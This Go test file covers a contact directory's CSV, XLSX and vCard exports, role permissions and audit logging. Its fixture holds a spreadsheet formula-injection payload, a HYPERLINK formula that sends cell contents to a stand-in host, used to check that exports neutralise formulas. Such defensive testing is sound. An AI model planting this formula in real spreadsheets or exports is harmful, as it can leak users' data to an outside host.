package contacts_test

import (
	"bytes"
	"errors"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/daugavpils/prdesk/internal/apptest"
	"github.com/daugavpils/prdesk/internal/contacts"
	"github.com/daugavpils/prdesk/internal/contacts/contactstest"
)

// exportFixture adds, under a tag of their own, a person whose fields
// would run as formulas in a spreadsheet, an organisation, one who opted
// out and one merged into another; it returns the tag.
func exportFixture(t *testing.T, srv *apptest.Server) (tag string, merged int64) {
	t.Helper()
	n := contactstest.Unique()
	tag = fmt.Sprintf("eksports%d", n)
	org := contactstest.Org(t, srv.Pool, fmt.Sprintf("Formulu redakcija %d", n), contacts.Media)
	srv.Pool.Exec(t.Context(), `update contacts set tags = array[$2] where id = $1`, org, tag)
	p := contactstest.AddPerson(t, srv.Pool, contactstest.Person{Given: "Anna", Family: fmt.Sprintf("Formula%d", n),
		Emails: []string{fmt.Sprintf("anna%d@example.lv", n)}, Phones: []string{fmt.Sprintf("+3712%07d", n%10000000)}, Tags: []string{tag},
		OrgID: org, Role: "žurnāliste"})
	srv.Pool.Exec(t.Context(), `update contacts set notes = '=HYPERLINK("http://x.example/?"&A1)', position = '@SUM(1+1)' where id = $1`, p)
	contactstest.AddPerson(t, srv.Pool, contactstest.Person{Given: "Otto", Family: fmt.Sprintf("Atteicies%d", n),
		Tags: []string{tag}, OptOut: true})
	keep := contactstest.AddPerson(t, srv.Pool, contactstest.Person{Given: "Māra", Family: fmt.Sprintf("Paliek%d", n), Tags: []string{tag}})
	merged = contactstest.AddPerson(t, srv.Pool, contactstest.Person{Given: "Māra", Family: fmt.Sprintf("Apvienota%d", n), Tags: []string{tag}})
	srv.Pool.Exec(t.Context(), `update contacts set merged_into = $2 where id = $1`, merged, keep)
	return tag, merged
}

func TestTheCSVExportNeutralisesFormulasAndLeavesOutMerged(t *testing.T) {
	srv := apptest.New(t)
	tag, _ := exportFixture(t, srv)
	res := srv.Client(t, "staff").Get(t, "/contacts/export.csv?tag="+tag)
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("status %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	body := res.Body
	for _, want := range []string{"\ufeffVeids;Vārds;Uzvārds", `"'=HYPERLINK(""http://x.example/?""&A1)"`, "'@SUM(1+1)",
		"'+3712", "Formulu redakcija", "Atteicies", "Paliek", "Latvija", "Sabiedrības interešu uzdevums"} {
		if !strings.Contains(body, want) {
			t.Errorf("CSV lacks %q:\n%s", want, body)
		}
	}
	if strings.Contains(body, "Apvienota") {
		t.Error("a merged contact was exported")
	}
	if lines := strings.Count(body, "\r\n"); lines != 5 { // header, organisation, three people
		t.Errorf("%d lines:\n%s", lines, body)
	}
	var summary string
	srv.Pool.QueryRow(t.Context(), `select summary from audit_log where entity = 'contact' and action = 'export' order by id desc limit 1`).Scan(&summary)
	if summary != "Kontaktu saraksta eksports CSV: 4 rindas; atlase: birka" {
		t.Errorf("audit summary %q", summary)
	}
}

func TestTheXLSXExportKeepsTextAsText(t *testing.T) {
	srv := apptest.New(t)
	tag, _ := exportFixture(t, srv)
	res := srv.Client(t, "staff").Get(t, "/contacts/export.xlsx?kind=person&tag="+tag)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("status %d", res.StatusCode)
	}
	book, err := excelize.OpenReader(bytes.NewReader([]byte(res.Body)))
	if err != nil {
		t.Fatal(err)
	}
	defer book.Close()
	sheet := book.GetSheetName(0)
	rows, err := book.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 4 {
		t.Fatalf("%d rows: %v", len(rows), rows)
	}
	found := false
	for i, row := range rows {
		for j, cell := range row {
			if !strings.HasPrefix(cell, "=HYPERLINK") {
				continue
			}
			found = true
			name, _ := excelize.CoordinatesToCellName(j+1, i+1)
			if f, _ := book.GetCellFormula(sheet, name); f != "" {
				t.Errorf("%s is a formula: %q", name, f)
			}
		}
	}
	if !found {
		t.Errorf("the note is not in the sheet: %v", rows)
	}
	var summary string
	srv.Pool.QueryRow(t.Context(), `select summary from audit_log where entity = 'contact' and action = 'export' order by id desc limit 1`).Scan(&summary)
	if summary != "Kontaktu saraksta eksports XLSX: 3 rindas; atlase: veids — persona, birka" {
		t.Errorf("audit summary %q", summary)
	}
}

func TestTheVCardExportEscapesAndFolds(t *testing.T) {
	srv := apptest.New(t)
	n := contactstest.Unique()
	tag := fmt.Sprintf("vcard%d", n)
	p := contactstest.AddPerson(t, srv.Pool, contactstest.Person{Given: "Jānis", Family: fmt.Sprintf("Bērziņš%d", n),
		Emails: []string{fmt.Sprintf("janis%d@example.lv", n)}, Tags: []string{tag, "kultūra"}})
	srv.Pool.Exec(t.Context(), `update contacts set notes = $2, address = 'Krišjāņa Valdemāra iela 1; 2. stāvs', city = 'Daugavpils' where id = $1`,
		p, "Zvanīt pēc 10:00, ne agrāk;\nrunā latgaliski \\ krieviski. "+strings.Repeat("Garš teksts ar garumzīmēm ā ē ī ū. ", 5))
	for _, version := range []string{"3.0", "4.0"} {
		res := srv.Client(t, "staff").Get(t, "/contacts/export.vcf?"+url.Values{"tag": {tag}, "version": {version}}.Encode())
		if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/vcard") {
			t.Fatalf("%s: status %d %s", version, res.StatusCode, res.Header.Get("Content-Type"))
		}
		body := res.Body
		for _, want := range []string{"BEGIN:VCARD\r\nVERSION:" + version + "\r\n", "N:Bērziņš", ";Jānis;;;\r\n",
			`ne agrāk\;\nrunā latgaliski \\ krieviski`, `Zvanīt pēc 10:00\, ne`, "ADR:;;Krišjāņa Valdemāra iela 1\\; 2. stāvs;Daugavpils;;;Latvija\r\n",
			"CATEGORIES:" + tag + ",kultūra\r\n", "END:VCARD\r\n"} {
			if !strings.Contains(unfold(body), want) {
				t.Errorf("%s lacks %q:\n%s", version, want, body)
			}
		}
		for _, line := range strings.Split(body, "\r\n") {
			if len(line) > 75 {
				t.Errorf("%s: a line of %d octets: %q", version, len(line), line)
			}
		}
		if !strings.Contains(body, "\r\n ") {
			t.Errorf("%s: the long note was not folded", version)
		}
	}
}

func unfold(s string) string { return strings.ReplaceAll(s, "\r\n ", "") }

// The clerk looks people up at the desk; the whole directory as a file
// is for those who keep it.
func TestExportsAreForThoseWhoKeepTheDirectory(t *testing.T) {
	srv := apptest.New(t)
	for _, path := range []string{"/contacts/export.csv", "/contacts/export.xlsx", "/contacts/export.vcf?version=3.0"} {
		for user, want := range map[string]int{"clerk": 403, "staff": 200, "head": 200, "director": 403, "admin": 403} {
			if res := srv.Client(t, user).Get(t, path); res.StatusCode != want {
				t.Errorf("%s as %s: %d, want %d", path, user, res.StatusCode, want)
			}
		}
	}
	// The list offers the files only to those who may take them.
	contactstest.Org(t, srv.Pool, fmt.Sprintf("Eksporta SIA %d", contactstest.Unique()), contacts.Media)
	for user, want := range map[string]bool{"clerk": false, "staff": true} {
		if res := srv.Client(t, user).Get(t, "/contacts"); strings.Contains(res.Body, `data-testid="exports"`) != want {
			t.Errorf("the list as %s offers exports: %v", user, !want)
		}
	}
	// A filter that is no filter is refused beside it, on the list page.
	if res := srv.Client(t, "staff").Get(t, "/contacts/export.csv?kind=robots"); res.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("bad filter: %d", res.StatusCode)
	}
}

// The audit entry is committed before the first row leaves: an export the
// reader breaks off half way has still been taken, and says how many rows
// were on their way.
func TestAnExportCutHalfWayIsAudited(t *testing.T) {
	s, pool := newStore(t)
	tag := fmt.Sprintf("puse%d", contactstest.Unique())
	for _, given := range []string{"Anna", "Baiba", "Cilda"} {
		contactstest.AddPerson(t, pool, contactstest.Person{Given: given, Family: "Pusceļa", Tags: []string{tag}})
	}
	written := 0
	err := s.Export(ctx(), contacts.ExportQuery{Filter: contacts.ListFilter{Tag: tag}, Format: "CSV", Words: "birka", Query: "tag=" + tag},
		contacts.ExportWriter{Row: func(contacts.ExportRow) error {
			if written++; written == 2 {
				return errors.New("the reader went away")
			}
			return nil
		}})
	if err == nil {
		t.Fatal("the export went on after its reader went away")
	}
	var rows int
	if err := pool.QueryRow(ctx(), `select (details->>'rows')::int from audit_log
		where entity = 'contact' and action = 'export' and details->>'filter' = $1`, "tag="+tag).Scan(&rows); err != nil || rows != 3 {
		t.Errorf("audit entry of the broken export: %d rows, %v", rows, err)
	}
}
